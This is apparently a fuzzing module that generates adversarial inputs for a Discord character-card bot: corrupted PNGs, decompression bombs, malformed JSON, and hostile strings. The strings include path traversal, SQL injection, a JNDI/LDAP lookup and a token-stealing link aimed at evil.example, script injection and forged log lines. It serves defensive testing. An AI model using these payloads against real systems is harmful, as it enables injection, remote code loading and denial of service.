"""What somebody sends to do harm: cards spoiled in a thousand ways, words, ids and forms."""

import json
import random
import struct
import zlib
from collections.abc import Callable

Chunks = list[tuple[bytes, bytes]]

SIGNATURE = b"\x89PNG\r\n\x1a\n"
KEYWORD = b"Troupe character"
BOMB = zlib.compress(bytes(16 * 2**20), 9)
"""16 MiB of nothing, in just as many bytes as a packed card may have."""

_TEXTS = (
    "",
    " ",
    "\x00",
    "Mi\x00ra",
    "\u202egnp.exe",
    "\u2066Mira\u2069",
    "@everyone <@1> </character:1>",
    "\u3164",
    "e" + "\u0301" * 400,
    "🦊" * 33,
    "x" * 5_000,
    "../../etc/passwd",
    "ميرا 猫 हिन्दी",
)
_VALUES: tuple[object, ...] = (
    None,
    True,
    -1,
    0,
    1.5,
    1e300,
    10**30,
    -(2**63),
    [],
    {},
    [[]],
    ["x"] * 11,
    ["x" * 21],
    [None],
    {"version": 1},
    "9" * 400 + "*1",
    "1024*1024",
    "ghibli",
    "no such style",
    *_TEXTS,
)
_FIELDS = ("version", "name", "description", "tags", "size", "style", "seed", "owner_id", "")
_RAW = (
    b'{"version":1,"name":"\\ud800"}',
    b'{"version":1,"name":"\\udc00\\ud800x"}',
    b'{"version":1,"name":"\xed\xa0\x80"}',
    b'{"version":1,"name":"a","name":"b"}',
    b'{"version":1,"name":"a"}\x00',
    b'\xef\xbb\xbf{"version":1,"name":"a"}',
    b'{"version":1,"name":"a","seed":NaN}',
    b'{"version":1,"name":"a","seed":1e999}',
    b'{"version":' + b"9" * 5_000 + b"}",
    b'{"x":' * 3_000,
    b"[" * 16_000,
    b'{"version":1,"name":"a","deep":' + b"[" * 7_000 + b"]" * 7_000 + b"}",
    b"null",
    b"",
    b"1",
    b'"',
    b"\xff\xfe{\x00",
)


def split(png: bytes) -> Chunks:
    found, at = [], len(SIGNATURE)
    while at < len(png):
        length, kind = struct.unpack_from(">I4s", png, at)
        found.append((kind, png[at + 8 : at + 8 + length]))
        at += 12 + length
    return found


def joined(parts: Chunks) -> bytes:
    return SIGNATURE + b"".join(
        struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        for kind, body in parts
    )


def text(value: bytes, *, packed: bytes = b"\x00", keyword: bytes = KEYWORD) -> tuple[bytes, bytes]:
    return b"iTXt", keyword + b"\x00" + packed + b"\x00\x00\x00" + value


def carrying(good: bytes, *values: bytes, packed: bytes = b"\x00") -> bytes:
    """The same picture with these texts in place of its card."""
    parts = [one for one in split(good) if one[0] != b"iTXt"]
    return joined([parts[0], *(text(value, packed=packed) for value in values), *parts[1:]])


def _card(good: bytes) -> dict[str, object]:
    body = next(body for kind, body in split(good) if kind == b"iTXt")
    card: dict[str, object] = json.loads(body[len(KEYWORD) + 5 :])
    return card


def flipped(good: bytes, chance: random.Random) -> bytes:
    data = bytearray(good)
    for _ in range(chance.randint(1, 8)):
        data[chance.randrange(len(data))] = chance.randrange(256)
    return bytes(data)


def truncated(good: bytes, chance: random.Random) -> bytes:
    return good[: chance.randrange(len(good))]


def spoiled_inside(good: bytes, chance: random.Random) -> bytes:
    """Bytes changed, checksums right: as somebody would who means it."""
    parts = split(good)
    for _ in range(chance.randint(1, 3)):
        number = chance.randrange(len(parts))
        kind, body = parts[number]
        changed = bytearray(body or b"\x00")
        changed[chance.randrange(len(changed))] = chance.randrange(256)
        parts[number] = (kind, bytes(changed))
    return joined(parts)


def shuffled(good: bytes, chance: random.Random) -> bytes:
    parts = split(good)
    for _ in range(chance.randint(1, 4)):
        number = chance.randrange(len(parts))
        act = chance.randrange(3)
        if act == 0:
            parts.insert(chance.randrange(len(parts) + 1), parts[number])
        elif act == 1 and len(parts) > 1:
            parts.pop(number)
        else:
            parts.sort(key=lambda _: chance.random())
    return joined(parts)


def false_length(good: bytes, chance: random.Random) -> bytes:
    data = bytearray(good)
    at = chance.choice([8, 33, len(data) - 12])
    claim = chance.choice([0, 1, 2**31 - 1, 2**31, 2**32 - 1, len(data)])
    struct.pack_into(">I", data, at, claim)
    return bytes(data)


def stuffed(good: bytes, chance: random.Random) -> bytes:
    """Chunks that nobody asked for: bombs, profiles, animation, thousands of nothing."""
    parts = split(good)
    extra: list[Chunks] = [
        [text(BOMB, packed=b"\x01")],
        [text(BOMB, packed=b"\x01", keyword=b"Another")],
        [(b"zTXt", b"Comment\x00\x00" + BOMB)],
        [(b"iCCP", b"Profile\x00\x00" + BOMB)],
        [(b"IDAT", BOMB)],
        [(b"acTL", struct.pack(">II", 2**31, 0))],
        [(b"eXIf", b"MM\x00*" + bytes(64))],
        [(b"teSt", chance.randbytes(chance.randrange(2_000)))] * chance.randint(1, 40),
        [(b"teSt", b"")] * 12_000,
        [(b"IHDR", struct.pack(">IIBBBBB", 60_000, 60_000, 8, 6, 0, 0, 0))],
        [(bytes(4), b"")],
    ]
    at = chance.randrange(len(parts) + 1)
    return joined(parts[:at] + chance.choice(extra) + parts[at:])


def wrong_value(good: bytes, chance: random.Random) -> bytes:
    card = _card(good)
    for _ in range(chance.randint(1, 3)):
        card[chance.choice(_FIELDS)] = chance.choice(_VALUES)
    return carrying(good, json.dumps(card, ensure_ascii=chance.random() < 0.5).encode())


def raw_text(good: bytes, chance: random.Random) -> bytes:
    value = chance.choice(_RAW)
    if chance.random() < 0.3:
        return carrying(good, zlib.compress(value), packed=b"\x01")
    return carrying(good, value, packed=chance.choice([b"\x00", b"\x00", b"\x02", b"\x01"]))


def noisy_text(good: bytes, chance: random.Random) -> bytes:
    """Letters of every plane and kind in the name, the description and the tags."""
    card = _card(good)
    letters = [chr(chance.choice([*range(0xD800), *range(0xE000, 0x110000, 97)])) for _ in range(9)]
    words = "".join(chance.choices([*letters, "\u202e", "\u200d", "\x00", " "], k=20))
    card |= {"name": words, "description": words * 3, "tags": [words[:7], words[7:]]}
    return carrying(good, json.dumps(card).encode())


WAYS: tuple[Callable[[bytes, random.Random], bytes], ...] = (
    flipped,
    truncated,
    spoiled_inside,
    shuffled,
    false_length,
    stuffed,
    wrong_value,
    raw_text,
    noisy_text,
)


# --- everything that isn't a card -----------------------------------------------------------------

Json = dict[str, object]

TEXTS: tuple[str, ...] = (
    *_TEXTS,
    "@here and @everyone",
    "<@&1100000000000000112>",
    "<@1100000000000000012> <@!1100000000000000012> <#1100000000000000121>",
    "```\n@everyone\n```",
    "`" * 300,
    "||" * 200,
    "# big\n## bigger\n-# small",
    "[click](https://evil.example/steal?token=1)",
    "https://evil.example/@everyone",
    "<t:99999999999999999999:R>",
    "<a:b:1100000000000000112> <:c:1100000000000000112>",
    "</collection save:1>",
    "'; DROP TABLE people; --",
    '" OR 1=1 --',
    "$1 $2 $3 {0} {prompt} %s %(message)s %n",
    "{{7*7}} ${jndi:ldap://evil.example/a} <script>alert(1)</script>",
    "\u0000\u0001\u001b[31mred\u001b[0m",
    "line\r\nINFO troupe: forged line",
    "\u2028\u2029\u0085",
    "\ud7ff\ue000\uffff",
    "\U000e0041\U000e0042",
    "\u202d\u202e" * 50,
    "z" + "\u0489" * 200,
    "\ufdfa" * 60,
    "\u1100" * 300,
    "👨\u200d👩\u200d👧" * 40,
    "🇦" * 90,
    "０" * 40,
    "9" * 5_900,
    "a b " * 400,
    "-" * 900,
    ",,,,,,,,,",
    "null",
    "undefined",
    "NaN",
    "true",
    "../../../../etc/passwd\x00.png",
    "C:\\Windows\\system32",
    "ℌ𝔢𝔩𝔩𝔬 𝕎𝕠𝕣𝕝𝕕",
)
"""At most 6,000 characters each: what Discord lets through."""

SIZES = (
    "",
    "0*0",
    "-1*-1",
    "1024*",
    "*1024",
    "999999999999*1",
    "1024*1024*1024",
    "１０２４*１０２４",
    "1e3*1e3",
    "0x400*0x400",
    "1024\x00*1024",
    "٥١٢*٥١٢",
    "∞*∞",
    "1024 * 1024\n@everyone",
    "NaN*NaN",
    "1024*1024; DROP TABLE people",
)
WHOLE: tuple[object, ...] = (0, -1, -(2**53), 2**53, 2**31, 5, 10**15, 1)

WRONG: tuple[object, ...] = (
    None,
    True,
    False,
    [],
    {},
    [[]],
    1.5,
    -1,
    2**53,
    "",
    "x",
    ["x"],
    {"a": {"b": []}},
    "9" * 400,
)
"""For an option that should be of another type."""

TEXT, NUMBER, SWITCH, FILE = 3, 4, 5, 11
OPTIONS = {
    "prompt": TEXT,
    "image": FILE,
    "who": TEXT,
    "size": TEXT,
    "style": TEXT,
    "seed": NUMBER,
    "count": NUMBER,
    "private": SWITCH,
}
_CHOICES: tuple[object, ...] = (
    [],
    None,
    {},
    "x",
    [None],
    [[]],
    [{}],
    [1],
    ["x" * 5_000],
    ["-1"],
    ["9" * 40],
)


def commands(command_id: str) -> list[Json]:
    """`/character` as a program of somebody's own would send it."""
    sent: list[Json] = []

    def command(options: object, **more: object) -> None:
        sent.append({"id": command_id, "name": "character", "type": 1, "options": options} | more)

    for name, kind in OPTIONS.items():
        others: list[Json] = [] if name == "prompt" else [_option("prompt", 3, "An elf")]
        for value in WRONG:
            command([*others, _option(name, kind, value)])
        lie = TEXT if kind == NUMBER else NUMBER
        command([*others, _option(name, lie, "5" if lie == TEXT else 5)])
    command([])
    command([_option("prompt", 3, "An elf")] * 3)
    command([_option("no such option", 3, "x")])
    command([_option("prompt", 3, "An elf"), _option("image", 11, "404")])
    command([_option("prompt", 3, "An elf"), _option("image", 11, "404")], resolved={})
    command([_option("prompt", 3, "An elf")], resolved={"attachments": {}})
    sent.append({"id": command_id, "name": "no such command", "type": 1, "options": []})
    sent.append({"id": "1", "name": "collection", "type": 1, "options": []})
    sent.append({"id": "1", "name": "collection", "type": 1, "options": [_sub("no such", [])]})
    sent.append({"id": "1", "name": "collection", "type": 1, "options": [_sub("save", [])]})
    sent.append({"id": "1", "name": "collection", "type": 1, "options": [_sub("show", [])]})
    return sent


def _option(name: str, kind: int, value: object) -> Json:
    return {"name": name, "type": kind, "value": value}


def _sub(name: str, options: list[Json]) -> Json:
    return {"name": name, "type": 1, "options": options}


def forms(custom_id: str) -> list[Json]:
    """A form with fields missing, unknown, of wrong types, and far too long."""
    bodies: list[object] = [
        [],
        [{}],
        [{"type": 18}],
        [{"type": 18, "component": {}}],
        [{"type": 18, "component": None}],
        [{"type": 18, "component": []}],
        [{"type": 1, "components": []}],
        [{"type": 1, "components": [{}]}],
        [{"type": 99, "id": 1}],
        [_field("no such field", "x")],
        [_field("prompt", "x" * 100_000)],
        [_field("prompt", "An elf"), _field("prompt", "another")],
        [_files("picture", ["404"])],
        [_files("picture", "404")],
        [_files("picture", [None, {}, 1])],
        [_files("style", ["no such style"])],
        [_files("style", [])],
    ]
    for name in ("prompt", "size", "seed", "style", "name", "description", "tags", "defaults"):
        bodies += [[_field(name, value)] for value in WRONG]
    return [{"custom_id": custom_id, "components": body} for body in bodies]


def _field(name: str, value: object) -> Json:
    return {
        "type": 18,
        "id": 1,
        "component": {"type": 4, "id": 2, "custom_id": name, "value": value},
    }


def _files(name: str, values: object) -> Json:
    inner = {"type": 19, "id": 2, "custom_id": name, "values": values}
    return {"type": 18, "id": 1, "component": inner}


def presses(custom_id: str) -> list[Json]:
    """A menu whose choice is none."""
    return [
        {"component_type": 3, "custom_id": custom_id, "id": 1, "values": values}
        for values in _CHOICES
    ]


CUSTOM_IDS = (
    "",
    " ",
    ":",
    "::::",
    "tr",
    "tr:1",
    "tr:1:",
    "tr:1:again",
    "tr:1:again:",
    "tr:1:again:x",
    "tr:1:again:" + "9" * 80,
    "tr:1:again:１２３",
    "TR:1:AGAIN:1",
    "tr:1:again:1\n",
    "tc:1:list:1::0:",
    "tc:1:picture:1::" + "A" * 43,
    "tc:1:picture:1::" + "=" * 43,
    "th:1:b:0:0:::",
    "th:1:b:zzzzzzzzzzzzz:zzzzzzzzzzzzz:zzzzzzzzzzzzz:1:@everyone",
    "th:1:d:0:1y2p0ij32e8e7::0:%_%_",
    "tp:1:size:0",
    "tm:1:delete:1:1",
    "ta:1:agree:1:1",
    "ta:1:agree:" + "9" * 30 + ":1",
    "settings:1:pause",
    "confirm_delete",
    "x" * 100,
    "🦊" * 50,
    "\u202etr:1:again:1",
    "tr:1:cancel:0",
    "tr:1:show:9223372036854775807",
    "tr:1:save:18446744073709551616",
)


def webhooks() -> list[tuple[str, dict[str, str], bytes]]:
    """Path, headers and body: none of them the provider's."""
    header = {"webhook-id": "x", "webhook-timestamp": "1", "webhook-signature": "v3,00"}
    paths = (
        "/",
        "/webhooks/1/2",
        "/webhooks/1-0/" + "a" * 64,
        "/webhooks/../../x/y",
        "/webhooks//",
    )
    bodies = (b"", b"{", b"null", b"[]", b'{"id":1}', b"\xff" * 50, b"[" * 20_000)
    return [(path, header, body) for path in paths for body in bodies]
